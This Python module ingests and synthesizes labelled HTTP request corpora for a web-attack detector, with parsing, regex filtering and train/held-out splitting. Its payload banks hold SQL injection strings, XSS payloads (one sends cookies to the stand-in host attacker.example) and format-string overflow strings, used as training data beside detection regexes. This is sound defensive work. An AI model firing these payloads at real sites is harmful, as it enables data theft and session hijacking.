"""Corpus ingestion: raw request parsing, dataset loading, labeling, splits.

Requests are treated as text; loaders decode bytes tolerantly (UTF-8 with a
Latin-1 fallback) so arbitrary payload bytes never abort a run. Parsing keeps
every separator it consumes, so a parsed request re-serializes to the exact
original text.
"""

from __future__ import annotations

import json
import random
import re
import urllib.parse
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path

from .errors import (
    CorpusFormatError,
    EmptyCorpus,
    InsufficientData,
    MalformedRequest,
)
from .fileio import atomic_write_text, read_text_tolerant


class Label(str, Enum):
    NORMAL = "normal"
    MALICIOUS = "malicious"


_LABEL_ALIASES = {
    "normal": Label.NORMAL,
    "valid": Label.NORMAL,
    "malicious": Label.MALICIOUS,
    "anomalous": Label.MALICIOUS,
    "attack": Label.MALICIOUS,
}


def parse_label(text: str) -> Label:
    try:
        return _LABEL_ALIASES[text.strip().lower()]
    except KeyError:
        raise CorpusFormatError(f"unknown label {text!r}") from None


# One line of a request: content plus the terminator actually seen.
_Line = tuple[str, str]


def _split_lines(text: str) -> list[_Line]:
    """Split on \\n (absorbing a preceding \\r) while keeping terminators."""
    lines: list[_Line] = []
    start = 0
    i = text.find("\n")
    while i != -1:
        if i > start and text[i - 1] == "\r":
            lines.append((text[start : i - 1], "\r\n"))
        else:
            lines.append((text[start:i], "\n"))
        start = i + 1
        i = text.find("\n", start)
    if start < len(text):
        lines.append((text[start:], ""))
    return lines


# Record-boundary heuristic only; parsing itself accepts any method token.
# Methods are all-caps words, which keeps bodies like "login=' OR '1'='1"
# (letter + space, but not upper-case) from starting a new record.
_REQUEST_LINE_RE = re.compile(r"^[A-Z]+[ \t]+[!-~]+")


@dataclass
class RawRequest:
    """A parsed request plus the separators needed to rebuild its exact text.

    method/target/version/headers/body are the parsed views used downstream;
    the underscore fields record whitespace and line terminators verbatim.
    """

    method: str
    target: str
    version: str
    body: str
    _lead_ws: str = ""
    _ws1: str = ""
    _ws2: str = ""
    _line_terms: list[str] = field(default_factory=list)
    _header_lines: list[tuple[str, str | None]] = field(default_factory=list)
    _blank_term: str | None = None

    @property
    def headers(self) -> list[tuple[str, str]]:
        """Parsed (name, value) pairs in order; colon-less lines get value ''."""
        out = []
        for name, rest in self._header_lines:
            out.append((name, rest.strip() if rest is not None else ""))
        return out

    @property
    def raw_text(self) -> str:
        return serialize(self)


def parse_raw_http(text: str) -> RawRequest:
    """Parse one raw HTTP request.

    The first line must contain something non-blank (the request line);
    header lines follow until an empty line, after which everything is body.
    No byte is interpreted beyond that, so hostile contents cannot abort
    parsing.
    """
    lines = _split_lines(text)
    if not lines or lines[0][0].strip() == "":
        raise MalformedRequest("no request line found")

    req_line, req_term = lines[0]
    m = re.match(r"^(\s*)(\S+)(\s*)", req_line)
    lead_ws, method, ws1 = m.group(1), m.group(2), m.group(3)
    rest = req_line[m.end() :]
    target = ""
    ws2 = ""
    version = ""
    if rest:
        m2 = re.match(r"^(\S+)(\s*)", rest)
        target, ws2 = m2.group(1), m2.group(2)
        version = rest[m2.end() :]

    line_terms = [req_term]
    header_lines: list[tuple[str, str | None]] = []
    blank_term: str | None = None
    body = ""
    for idx in range(1, len(lines)):
        content, term = lines[idx]
        if content == "":
            blank_term = term
            body = "".join(c + t for c, t in lines[idx + 1 :])
            break
        colon = content.find(":")
        if colon == -1:
            header_lines.append((content, None))
        else:
            header_lines.append((content[:colon], content[colon + 1 :]))
        line_terms.append(term)

    return RawRequest(
        method=method,
        target=target,
        version=version,
        body=body,
        _lead_ws=lead_ws,
        _ws1=ws1,
        _ws2=ws2,
        _line_terms=line_terms,
        _header_lines=header_lines,
        _blank_term=blank_term,
    )


def serialize(req: RawRequest) -> str:
    """Rebuild the exact text parse_raw_http consumed."""
    parts = [req._lead_ws, req.method, req._ws1, req.target, req._ws2, req.version]
    parts.append(req._line_terms[0])
    for (name, rest), term in zip(req._header_lines, req._line_terms[1:]):
        parts.append(name if rest is None else f"{name}:{rest}")
        parts.append(term)
    if req._blank_term is not None:
        parts.append(req._blank_term)
        parts.append(req.body)
    return "".join(parts)


@dataclass
class CorpusEntry:
    request: RawRequest
    label: Label
    request_id: str


@dataclass
class LabeledCorpus:
    entries: list[CorpusEntry]
    source: str = ""
    filtered_out: int = 0

    def __len__(self) -> int:
        return len(self.entries)

    def __iter__(self):
        return iter(self.entries)

    def counts(self) -> tuple[int, int]:
        n_normal = sum(1 for e in self.entries if e.label is Label.NORMAL)
        return n_normal, len(self.entries) - n_normal


class CorpusFormat(str, Enum):
    AUTO = "auto"
    BLANK_LINE = "blank-line"
    URL_ENCODED_LINES = "url-encoded-lines"
    CACHE = "cache"


def _split_blank_separated(text: str) -> list[str]:
    """Split a multi-request file at blank-line runs that precede a request line.

    Blank lines inside a record (the header/body separator) survive because
    the line that follows them does not look like a request line.
    """
    records: list[str] = []
    current: list[str] = []
    blank_run: list[str] = []
    for content, term in _split_lines(text):
        if content.strip() == "":
            blank_run.append(content + term)
            continue
        if current and blank_run and _REQUEST_LINE_RE.match(content):
            records.append("".join(current))
            current = []
            blank_run = []
        current.extend(blank_run)
        blank_run = []
        current.append(content + term)
    # Trailing blank lines belong to the last record (for a single-record
    # file they are its header terminator), so a lone request round-trips
    # byte for byte. A blank-only file still yields no records.
    if current:
        current.extend(blank_run)
        records.append("".join(current))
    return records


def _parse_records(path: Path, fmt: CorpusFormat) -> list[tuple[str, RawRequest]]:
    """Parse one file into (record_id, request) pairs for a line/record format."""
    text = read_text_tolerant(path)
    out: list[tuple[str, RawRequest]] = []
    if fmt is CorpusFormat.URL_ENCODED_LINES:
        for n, (content, _term) in enumerate(_split_lines(text), start=1):
            if content.strip() == "":
                continue
            try:
                req = parse_raw_http(urllib.parse.unquote(content))
            except MalformedRequest as exc:
                raise CorpusFormatError(str(exc), path=str(path), line=n) from exc
            out.append((f"{path.stem}#{n}", req))
    else:
        for n, record in enumerate(_split_blank_separated(text)):
            try:
                req = parse_raw_http(record)
            except MalformedRequest as exc:
                raise CorpusFormatError(str(exc), path=str(path)) from exc
            out.append((f"{path.stem}#{n}", req))
    return out


def _load_sidecar_labels(path: Path, n_records: int) -> list[Label]:
    """Read an index<TAB>label file covering every record index."""
    labels: dict[int, Label] = {}
    for n, (content, _term) in enumerate(_split_lines(read_text_tolerant(path)), start=1):
        if content.strip() == "":
            continue
        parts = content.split("\t")
        if len(parts) != 2:
            raise CorpusFormatError("expected index<TAB>label", path=str(path), line=n)
        try:
            idx = int(parts[0])
        except ValueError:
            raise CorpusFormatError(f"bad index {parts[0]!r}", path=str(path), line=n) from None
        try:
            labels[idx] = parse_label(parts[1])
        except CorpusFormatError as exc:
            raise CorpusFormatError(str(exc), path=str(path), line=n) from None
    missing = [i for i in range(n_records) if i not in labels]
    if missing:
        raise CorpusFormatError(
            f"sidecar misses labels for record indices {missing[:5]}", path=str(path)
        )
    return [labels[i] for i in range(n_records)]


CACHE_FORMAT_VERSION = 1


def write_corpus_cache(corpus: LabeledCorpus, path: Path) -> None:
    """Write the newline-delimited cache: a version header, then one record per line."""
    lines = [json.dumps({"format_version": CACHE_FORMAT_VERSION}, sort_keys=True)]
    for entry in corpus.entries:
        lines.append(
            json.dumps(
                {"raw_text": entry.request.raw_text, "label": entry.label.value},
                sort_keys=True,
            )
        )
    atomic_write_text(Path(path), "\n".join(lines) + "\n")


def _load_corpus_cache(path: Path) -> LabeledCorpus:
    entries: list[CorpusEntry] = []
    lines = [c for c, _t in _split_lines(read_text_tolerant(path)) if c.strip() != ""]
    if not lines:
        raise CorpusFormatError("empty cache file", path=str(path))
    try:
        header = json.loads(lines[0])
    except json.JSONDecodeError:
        raise CorpusFormatError("bad JSON header", path=str(path), line=1) from None
    if not isinstance(header, dict) or header.get("format_version") != CACHE_FORMAT_VERSION:
        raise CorpusFormatError(
            f"unsupported cache format_version {header!r}", path=str(path), line=1
        )
    for n, line in enumerate(lines[1:], start=2):
        try:
            obj = json.loads(line)
            raw_text, label = obj["raw_text"], obj["label"]
        except (json.JSONDecodeError, TypeError, KeyError):
            raise CorpusFormatError("bad cache record", path=str(path), line=n) from None
        try:
            req = parse_raw_http(raw_text)
        except MalformedRequest as exc:
            raise CorpusFormatError(str(exc), path=str(path), line=n) from exc
        entries.append(CorpusEntry(req, parse_label(label), f"{path.stem}#{n - 2}"))
    return LabeledCorpus(entries, source=str(path))


def _looks_like_cache(path: Path) -> bool:
    try:
        with open(path, "rb") as fh:
            first = fh.readline(4096).decode("utf-8", errors="replace").strip()
    except OSError:
        return False
    if not first.startswith("{"):
        return False
    try:
        return "format_version" in json.loads(first)
    except json.JSONDecodeError:
        return False


_LABEL_DIRS = (("normal", Label.NORMAL), ("anomalous", Label.MALICIOUS))


def load_corpus(path: str | Path, fmt: CorpusFormat | str = CorpusFormat.AUTO) -> LabeledCorpus:
    """Load a labeled corpus.

    Accepts a directory with normal/ and anomalous/ subdirectories, a cache
    file, or a single record/line file with an index<TAB>label sidecar at
    <path>.labels.tsv. Load order is deterministic: normal/ before
    anomalous/, files sorted by name, records in file order.
    """
    path = Path(path)
    fmt = CorpusFormat(fmt)

    if path.is_dir():
        record_fmt = CorpusFormat.BLANK_LINE if fmt is CorpusFormat.AUTO else fmt
        entries: list[CorpusEntry] = []
        matched_any_dir = False
        for dirname, label in _LABEL_DIRS:
            subdir = path / dirname
            if not subdir.is_dir():
                continue
            matched_any_dir = True
            for file in sorted(p for p in subdir.iterdir() if p.is_file()):
                for rec_id, req in _parse_records(file, record_fmt):
                    entries.append(CorpusEntry(req, label, f"{dirname}/{rec_id}"))
        if not matched_any_dir:
            raise CorpusFormatError(
                "directory has neither normal/ nor anomalous/ subdirectory", path=str(path)
            )
        return LabeledCorpus(entries, source=str(path))

    if not path.exists():
        raise FileNotFoundError(f"dataset not found: {path}")

    if fmt is CorpusFormat.CACHE or (fmt is CorpusFormat.AUTO and _looks_like_cache(path)):
        return _load_corpus_cache(path)

    record_fmt = CorpusFormat.BLANK_LINE if fmt is CorpusFormat.AUTO else fmt
    records = _parse_records(path, record_fmt)
    sidecar = path.with_name(path.name + ".labels.tsv")
    if not sidecar.exists():
        raise CorpusFormatError(
            "labels unavailable: provide normal/ and anomalous/ directories, a cache "
            f"file, or a sidecar at {sidecar.name}",
            path=str(path),
        )
    labels = _load_sidecar_labels(sidecar, len(records))
    entries = [
        CorpusEntry(req, label, rec_id) for (rec_id, req), label in zip(records, labels)
    ]
    return LabeledCorpus(entries, source=str(path))


# Attack matchers: used to drop Malicious entries that no known rule explains
# and to sanity-check synthesized attacks. _SP covers the separator an
# attacker may have url-encoded (%20 or +) as well as literal whitespace;
# _B is a keyword's left boundary (a plain \b fails after %20 because the
# trailing 0 and the keyword form one word run).
_SP = r"(?:\s|%20|\+)"
_B = r"(?:^|\W|%20)"
DEFAULT_ATTACK_RULES: tuple[re.Pattern[str], ...] = (
    re.compile(
        rf"(?i)({_B}union\b.{{0,80}}{_B}select\b)|({_B}or{_SP}*'?1'?{_SP}*={_SP}*'?1)"
        rf"|('{_SP}*--)|(;{_SP}*drop{_SP}+table)|({_B}sleep{_SP}*\()"
        rf"|({_B}select\b.{{0,80}}{_B}from\b)"
    ),
    re.compile(rf"(?i)<\s*script|{_B}onerror\s*=|{_B}onload\s*=|javascript:"),
    re.compile(r"(.)\1{511,}", re.DOTALL),
)


def filter_ambiguous(
    corpus: LabeledCorpus, rules: tuple[re.Pattern[str], ...] = DEFAULT_ATTACK_RULES
) -> LabeledCorpus:
    """Drop Malicious entries matching no rule; Normal entries always survive."""
    if not rules:
        raise ValueError("filter_ambiguous needs at least one rule")
    kept: list[CorpusEntry] = []
    removed = 0
    for entry in corpus.entries:
        if entry.label is Label.MALICIOUS:
            text = entry.request.raw_text
            if not any(r.search(text) for r in rules):
                removed += 1
                continue
        kept.append(entry)
    return LabeledCorpus(kept, source=corpus.source, filtered_out=removed)


def split_corpus(
    corpus: LabeledCorpus, train_fraction: float = 0.8, seed: int = 0
) -> tuple[LabeledCorpus, LabeledCorpus]:
    """Split into (train, held_out).

    train gets a seeded-shuffle train_fraction of the Normal entries and
    nothing else; held_out gets the remaining Normals plus every Malicious
    entry. The shuffled order is kept so downstream validation slices are
    unbiased.
    """
    if not corpus.entries:
        raise EmptyCorpus("cannot split an empty corpus")
    if not 0.0 < train_fraction <= 1.0:
        raise ValueError(f"train_fraction must be in (0, 1], got {train_fraction}")
    normals = [e for e in corpus.entries if e.label is Label.NORMAL]
    malicious = [e for e in corpus.entries if e.label is Label.MALICIOUS]
    if len(normals) < 2:
        raise InsufficientData(f"need at least 2 Normal entries, got {len(normals)}")
    n_train = int(len(normals) * train_fraction)
    if n_train < 1:
        raise InsufficientData(
            f"train_fraction {train_fraction} of {len(normals)} Normals selects nothing"
        )
    shuffled = list(normals)
    random.Random(seed).shuffle(shuffled)
    train = LabeledCorpus(shuffled[:n_train], source=corpus.source)
    held = LabeledCorpus(shuffled[n_train:] + malicious, source=corpus.source)
    return train, held


# ---------------------------------------------------------------------------
# Synthetic corpus
# ---------------------------------------------------------------------------

SQLI_PAYLOADS: tuple[str, ...] = (
    "' OR '1'='1",
    "1' OR '1'='1' --",
    "admin'--",
    "'; DROP TABLE usuarios; --",
    "1 UNION SELECT login, password FROM usuarios",
    "' AND SLEEP(5) --",
)

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss')</script>",
    "<script>document.location='http://attacker.example/c?'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(document.domain)>",
)

OVERFLOW_PAYLOADS: tuple[str, ...] = (
    "A" * 600 + "%x%x%x%x",
    "B" * 768 + "%n%n%n%n",
    "0" * 520 + "%n%x%n%x",
)

_TLDS = ("com", "net", "org", "es")
_CITY_POOL = ("Salvatierra", "Burgos", "Leon", "Cuenca", "Soria", "Teruel", "Lugo")


def _lower_word(rng: random.Random, lo: int = 3, hi: int = 9) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(lo, hi)))


def _digits(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789") for _ in range(n))


def _alnum_id(rng: random.Random) -> str:
    # A short login-style id with at least one letter and one digit.
    return _lower_word(rng, 1, 4) + _digits(rng, rng.randint(1, 3))


def _capital_word(rng: random.Random) -> str:
    word = _lower_word(rng, 4, 9)
    return word[0].upper() + word[1:]


def _login(rng: random.Random) -> str:
    return _alnum_id(rng) if rng.random() < 0.5 else _lower_word(rng)


def _password(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.4:
        return _alnum_id(rng)
    if roll < 0.7:
        # url-encoded punctuation inside the secret
        return f"{_lower_word(rng, 3, 6)}%21"
    return _digits(rng, rng.randint(4, 8))


def _person_name(rng: random.Random) -> str:
    return _capital_word(rng) if rng.random() < 0.5 else _lower_word(rng)


def _email(rng: random.Random) -> str:
    local = _lower_word(rng, 2, 7)
    if rng.random() < 0.4:
        local = f"{local}.{_lower_word(rng, 2, 5)}"
    return f"{local}@{_lower_word(rng, 3, 7)}.{rng.choice(_TLDS)}"


def _address(rng: random.Random) -> str:
    base = f"Calle+{rng.choice(_CITY_POOL)}+{_digits(rng, rng.randint(1, 3))}"
    if rng.random() < 0.5:
        base += f"+%2C+{rng.choice(_CITY_POOL)}"
    return base


def _price(rng: random.Random) -> str:
    whole = str(rng.randint(1, 99))
    return whole if rng.random() < 0.5 else f"{whole}.{_digits(rng, 2)}"


def _product(rng: random.Random) -> str:
    name = _lower_word(rng)
    return name if rng.random() < 0.6 else f"{name}+{_lower_word(rng)}"


def _cache_tag(rng: random.Random) -> str:
    return _digits(rng, rng.randint(1, 4)) if rng.random() < 0.5 else _alnum_id(rng)


# Each template: (method, path, [(param, generator, presence)], params_in_body).
# Generators are callables drawing from the corpus RNG; plain strings are
# emitted verbatim so structural tokens repeat across instances. presence < 1
# marks optional parameters; together with the multi-shape value generators it
# keeps token patterns varied the way organic traffic is, instead of
# collapsing every instance of a template onto one sequence.
_TEMPLATES = (
    (
        "POST",
        "/tienda1/publico/registro.jsp",
        (
            ("modo", "registro", 1.0),
            ("login", _login, 1.0),
            ("password", _password, 1.0),
            ("nombre", _capital_word, 1.0),
            ("apellidos", _capital_word, 1.0),
            ("email", _email, 1.0),
            ("direccion", _address, 1.0),
            ("ntc", lambda rng: _digits(rng, 16), 1.0),
            ("B1", "Registrar", 1.0),
        ),
        False,
    ),
    (
        "POST",
        "/tienda1/publico/autenticar.jsp",
        (
            ("modo", "entrar", 1.0),
            ("login", _login, 1.0),
            ("pwd", _password, 1.0),
            ("remember", lambda rng: _digits(rng, 1), 0.5),
            ("B1", "Entrar", 1.0),
        ),
        False,
    ),
    (
        "GET",
        "/tienda1/publico/productos.jsp",
        (
            ("categoria", lambda rng: _digits(rng, rng.randint(1, 2)), 1.0),
            ("pagina", lambda rng: _digits(rng, 1), 0.6),
        ),
        False,
    ),
    (
        "GET",
        "/tienda1/publico/anadir.jsp",
        (
            ("id", lambda rng: _digits(rng, rng.randint(1, 3)), 1.0),
            ("nombre", _product, 1.0),
            ("precio", _price, 1.0),
            ("cantidad", lambda rng: _digits(rng, 1), 1.0),
            ("B1", "Anadir", 1.0),
        ),
        False,
    ),
    (
        "POST",
        "/tienda1/publico/pagar.jsp",
        (
            ("modo", "insertar", 1.0),
            ("titular", _person_name, 0.6),
            ("tarjeta", lambda rng: _digits(rng, 16), 1.0),
            ("cvv", lambda rng: _digits(rng, 3), 1.0),
            ("B1", "Pasar", 1.0),
        ),
        True,
    ),
    ("GET", "/tienda1/global/estilos.css", (("v", _cache_tag, 0.5),), False),
)


def _render_normal(rng: random.Random) -> tuple[str, str, list[tuple[str, str]], bool]:
    method, path, params, in_body = rng.choice(_TEMPLATES)
    rendered = []
    for name, value, presence in params:
        keep = presence >= 1.0 or rng.random() < presence
        if keep:
            rendered.append((name, value if isinstance(value, str) else value(rng)))
    return method, path, rendered, in_body


def _build_text(method: str, path: str, params: list[tuple[str, str]], in_body: bool) -> str:
    query = "&".join(f"{k}={v}" for k, v in params)
    target = path
    body = ""
    if params and in_body:
        body = query
    elif params:
        target = f"{path}?{query}"
    headers = [
        "Host: localhost:8080",
        "User-Agent: Mozilla/5.0 (compatible; SyntheticClient/1.0)",
        "Accept: text/html",
    ]
    if method == "POST":
        headers.append("Content-Type: application/x-www-form-urlencoded")
        headers.append(f"Content-Length: {len(body)}")
    head = "\r\n".join([f"{method} {target} HTTP/1.1", *headers])
    return f"{head}\r\n\r\n{body}"


def _render_attack(rng: random.Random) -> str:
    method, path, params, in_body = _render_normal(rng)
    payload = rng.choice(rng.choice((SQLI_PAYLOADS, XSS_PAYLOADS, OVERFLOW_PAYLOADS)))
    if not in_body:
        # Literal spaces would end the request-line target early, so a real
        # attacker url-encodes them when the payload rides the query string.
        payload = payload.replace(" ", "%20")
    # Tamper near the front of the parameter list: sequences are cut to the
    # model's fixed length from the front, so that is the observable window.
    window = min(len(params), 5)
    if params and rng.random() < 0.7:
        idx = rng.randrange(window)
        params[idx] = (params[idx][0], payload)
    else:
        idx = rng.randrange(window + 1) if params else 0
        params.insert(idx, (_lower_word(rng, 1, 3), payload))
    return _build_text(method, path, params, in_body)


def synthesize_corpus(n_normal: int, n_attack: int, seed: int = 0) -> LabeledCorpus:
    """Generate a deterministic labeled corpus from an online-shop template
    grammar plus SQL injection, XSS, and parameter-overflow payload banks.

    Every draw comes from one seeded RNG, so (n_normal, n_attack, seed)
    fixes the corpus byte for byte.
    """
    if n_normal < 0 or n_attack < 0:
        raise ValueError("counts must be non-negative")
    rng = random.Random(seed)
    entries: list[CorpusEntry] = []
    for i in range(n_normal):
        text = _build_text(*_render_normal(rng))
        entries.append(CorpusEntry(parse_raw_http(text), Label.NORMAL, f"normal/{i:05d}.txt"))
    for i in range(n_attack):
        text = _render_attack(rng)
        entries.append(
            CorpusEntry(parse_raw_http(text), Label.MALICIOUS, f"anomalous/{i:05d}.txt")
        )
    return LabeledCorpus(entries, source=f"synthetic(seed={seed})")


def write_corpus_dir(corpus: LabeledCorpus, out_dir: str | Path) -> dict[str, int]:
    """Write one file per request under normal/ and anomalous/."""
    out_dir = Path(out_dir)
    counters = {"normal": 0, "anomalous": 0}
    for entry in corpus.entries:
        dirname = "normal" if entry.label is Label.NORMAL else "anomalous"
        atomic_write_text(
            out_dir / dirname / f"{counters[dirname]:05d}.txt", entry.request.raw_text
        )
        counters[dirname] += 1
    return counters
